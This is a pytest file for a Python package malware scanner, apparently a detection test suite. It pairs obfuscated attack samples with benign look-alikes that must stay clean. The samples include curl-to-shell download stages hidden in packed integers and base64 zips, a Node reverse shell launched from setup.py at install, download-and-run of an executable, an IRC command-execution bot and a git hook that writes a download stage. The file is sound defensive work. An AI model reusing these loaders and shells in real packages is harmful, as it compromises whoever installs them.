"""The blind37 recall round's misses (benchmarks/malware/tune/b37-*), each as the smallest
package that shows the technique, asserted in package mode with the prefilter's twin
(the whole-file pass finds the rule, the prefiltered scan finds every DANGER it does), and
the honest code of the same shape that must stay clean. Each attack failed on main at
``019b5d6a``; each near miss passes there and here."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
from pathlib import Path

import pytest

from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_tree
from tests._scan.test_blind32 import SETUP_STARTS, attack, clean

#: An inert second stage (a download piped to a shell).
STAGE = b'import os\nos.system("curl -fsSL https://cdn.pkg-update.example/i.sh | sh")\n'
#: The stage padded with blanks to whole 32-bit words, as little-endian integers.
STAGE_WORDS = list(
    struct.unpack(f"<{(len(STAGE) + 3) // 4}I", STAGE.ljust((len(STAGE) + 3) // 4 * 4, b" "))
)


def _zipped_stage() -> str:
    """A zip archive holding the stage as ``cfgsvc.py``, base64'd."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("cfgsvc.py", STAGE)
    return base64.b64encode(buffer.getvalue()).decode()


# -- decoder sinks -----------------------------------------------------------------------------


def test_a_stage_packed_into_integers_and_stripped_of_its_padding_is_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    packed = f"""
    import struct
    _I = {STAGE_WORDS!r}
    exec(struct.pack("<%dI" % len(_I), *_I).rstrip(b" ").decode())
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": packed}, "CPL-THR-015")


def test_a_record_packed_and_stripped_of_its_padding_is_data(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    record = """
    import struct

    def header(name, size):
        raw = struct.pack("<16sI", name.encode(), size)
        return raw[:16].rstrip(b"\\0").decode(), struct.unpack("<I", raw[16:])[0]

    LABEL = struct.pack("<4I", 0x6C6C6548, 0x6F77206F, 0x20646C72, 0x20202020).rstrip(b" ")
    print(LABEL.decode(), header("demo", 3))
    """
    clean(tmp_path, monkeypatch, {"pkg/__init__.py": record})


# -- computed names ----------------------------------------------------------------------------


def test_a_builtins_name_picked_out_of_padding_by_compress_is_hidden(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    picked = """
    import builtins, itertools
    _x = "qeyxzeac"
    _m = [0, 1, 0, 1, 0, 1, 0, 1]
    _f = getattr(builtins, "".join(itertools.compress(_x, _m)))
    _f(payload)
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": picked}, "CPL-THR-003")


def test_columns_picked_by_compress_and_looked_up_on_a_record_are_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    columns = """
    import itertools

    FIELDS = ["name", "size", "owner", "mtime"]
    SHOWN = [1, 1, 0, 1]

    def row(record):
        return [getattr(record, f) for f in itertools.compress(FIELDS, SHOWN)]
    """
    clean(tmp_path, monkeypatch, {"pkg/listing.py": columns})


def test_a_module_and_its_function_interleaved_from_two_strings_are_hidden(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    interleaved = """
    _IlIlIlIlIl = "sbrcs"
    _lIlIlIlIlI = "upoes"
    _IIllIIllII = "".join(a + b for a, b in zip(_IlIlIlIlIl, _lIlIlIlIlI))
    _llIIllIIll = "".join(a + b for a, b in zip("Ppn", "oe ")).strip()
    _IllIlllIll = getattr(__import__(_IIllIIllII), _llIIllIIll)
    _IllIlllIll(["sh", "-c", "id"])
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": interleaved}, "CPL-THR-003")


def test_pairs_interleaved_beside_a_plugin_loader_are_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    loader = """
    import importlib

    def labels(keys, values):
        return ", ".join(a + b for a, b in zip(keys, values))

    def load(name):
        module = importlib.import_module(name)
        return getattr(module, labels(["ma"], ["in"]))
    """
    clean(tmp_path, monkeypatch, {"pkg/plugins.py": loader})


# -- literal stages and download-run ------------------------------------------------------------


def test_a_zip_written_from_a_literal_and_imported_by_zipimporter_is_a_stage(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    imported = f"""
    import base64, os, tempfile, zipimport
    _p = os.path.join(tempfile.gettempdir(), "yl_cache.zip")
    with open(_p, "wb") as fh:
        fh.write(base64.b64decode("{_zipped_stage()}"))
    zipimport.zipimporter(_p).load_module("cfgsvc")
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": imported}, "CPL-THR-001")


def test_a_zip_the_package_ships_imported_by_zipimporter_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    vendored = """
    import os, zipimport

    _here = os.path.dirname(os.path.abspath(__file__))
    _vendor = zipimport.zipimporter(os.path.join(_here, "vendor.zip"))
    six = _vendor.load_module("six")

    def save(path, data):
        with open(path, "wb") as fh:
            fh.write(data)
    """
    clean(tmp_path, monkeypatch, {"pkg/__init__.py": vendored})


def test_a_download_written_through_a_handle_unpacked_and_started_is_download_and_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    unpacked = """
    import os, shutil, subprocess, tempfile, urllib.request
    _t = tempfile.mkdtemp()
    _a = os.path.join(_t, "drv.zip")
    with open(_a, "wb") as f:
        f.write(urllib.request.urlopen("http://198.51.100.140/driver.zip").read())
    shutil.unpack_archive(_a, _t)
    subprocess.Popen([os.path.join(_t, "driver.exe")])
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": unpacked}, "CPL-THR-002")


def test_a_download_written_through_a_handle_unpacked_and_read_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    dataset = """
    import csv, os, shutil, tempfile, urllib.request

    def fetch(url):
        folder = tempfile.mkdtemp()
        archive = os.path.join(folder, "data.zip")
        with open(archive, "wb") as f:
            f.write(urllib.request.urlopen(url).read())
        shutil.unpack_archive(archive, folder)
        with open(os.path.join(folder, "iris.csv")) as rows:
            return list(csv.reader(rows))
    """
    clean(tmp_path, monkeypatch, {"pkg/datasets.py": dataset})


# -- payloads outside Python --------------------------------------------------------------------


def test_an_irc_bots_channel_message_run_as_a_command_is_remote_control(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bot = """
    import os
    import irc.bot

    class _B(irc.bot.SingleServerIRCBot):
        def on_pubmsg(self, c, e):
            msg = e.arguments[0]
            if msg.startswith("!x "):
                for line in os.popen(msg[3:]).read().splitlines()[:20]:
                    c.privmsg("#ops7", line)

    _B([("irc.chat-net.example", 6667)], "u1", "u1").start()
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": bot}, "CPL-THR-020")


def test_an_irc_bot_answering_a_fixed_command_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bot = """
    import subprocess
    import irc.bot

    class Uptime(irc.bot.SingleServerIRCBot):
        def on_pubmsg(self, c, e):
            msg = e.arguments[0]
            if msg == "!uptime":
                c.privmsg(e.target, subprocess.run(["uptime"], capture_output=True,
                                                   text=True).stdout)
            else:
                c.privmsg(e.target, "echo: " + msg)
    """
    clean(tmp_path, monkeypatch, {"pkg/bot.py": bot})


NODE_SHELL = """
const net = require("net"), cp = require("child_process");
const sh = cp.spawn("/bin/sh", []);
const c = new net.Socket();
c.connect(4444, "198.51.100.77", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });
"""


def test_a_node_reverse_shell_started_at_install_is_a_loader(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    setup = SETUP_STARTS % '["node", os.path.join(here, "scripts", "postinstall.js")]'
    attack(
        tmp_path,
        monkeypatch,
        {"scripts/postinstall.js": NODE_SHELL, "setup.py": setup},
        "CPL-THR-008",  # told as what it is: no download, a shell on a socket
    )


def test_a_node_build_script_started_at_install_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    build = """
    const cp = require("child_process"), net = require("net");
    const server = net.createServer((s) => s.end("ready\\n"));
    cp.execSync("npx tsc -p tsconfig.json", { stdio: "inherit" });
    server.close();
    """
    setup = SETUP_STARTS % '["node", os.path.join(here, "scripts", "build.js")]'
    clean(tmp_path, monkeypatch, {"scripts/build.js": build, "setup.py": setup})


SETUP_STARTS_JAR = """
import os, subprocess
from setuptools import setup
here = os.path.dirname(os.path.abspath(__file__))
jar = os.path.join(here, "pkg", "lib", "helper.jar")
%s
setup(name="x")
"""


@pytest.mark.parametrize(
    "start",
    [
        'subprocess.Popen(["java", "-jar", jar], stdout=-3, start_new_session=True)',
        'subprocess.Popen(["java", "-jar", jar], preexec_fn=os.setsid)',
        'subprocess.Popen(["javaw", "-jar", jar], creationflags=subprocess.DETACHED_PROCESS)',
    ],
)
def test_a_shipped_jar_started_detached_at_install_is_a_payload(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, start: str
) -> None:
    (tmp_path / "pkg" / "lib").mkdir(parents=True)
    (tmp_path / "pkg" / "lib" / "helper.jar").write_bytes(b"PK\x05\x06" + bytes(18))
    (tmp_path / "pkg" / "__init__.py").write_text("", encoding="utf-8")
    attack(tmp_path, monkeypatch, {"setup.py": SETUP_STARTS_JAR % start}, "CPL-THR-018")


@pytest.mark.parametrize(
    "start",
    [
        'subprocess.check_call(["java", "-jar", jar, "-Dlanguage=Python3", "Expr.g4"])',
        'subprocess.Popen(["java", "-jar", jar, "gen"], creationflags=0x08000000).wait()',
    ],
)
def test_a_shipped_jar_run_as_a_build_step_at_install_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, start: str
) -> None:
    (tmp_path / "pkg" / "lib").mkdir(parents=True)
    (tmp_path / "pkg" / "lib" / "helper.jar").write_bytes(b"PK\x05\x06" + bytes(18))
    clean(tmp_path, monkeypatch, {"pkg/__init__.py": "", "setup.py": SETUP_STARTS_JAR % start})


def test_each_message_says_what_was_found(tmp_path: Path) -> None:
    """blind37 noticed: a git hook written was told as "a shell start-up file", a shell
    on a Node socket as a download that runs (mended after the merge)."""
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "__init__.py").write_text(
        "import os\n"
        "h = os.path.join('.git', 'hooks', 'pre-commit')\n"
        "with open(h, 'w') as f:\n"
        "    f.write('curl -fsSL http://203.0.113.54/h.sh | sh')\n",
        encoding="utf-8",
    )
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "postinstall.js").write_text(NODE_SHELL, encoding="utf-8")
    (tmp_path / "setup.py").write_text(
        SETUP_STARTS % '["node", os.path.join(here, "scripts", "postinstall.js")]',
        encoding="utf-8",
    )
    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
    messages = {f.rule_id: f.message for f in report.findings if f.file != "setup.py"}
    assert "a shell start-up file or git hook written with 'curl" in messages["CPL-THR-015"]
    assert "wires a socket to a shell (reverse shell)" in messages["CPL-THR-008"]
    assert "downloads" not in messages["CPL-THR-008"]
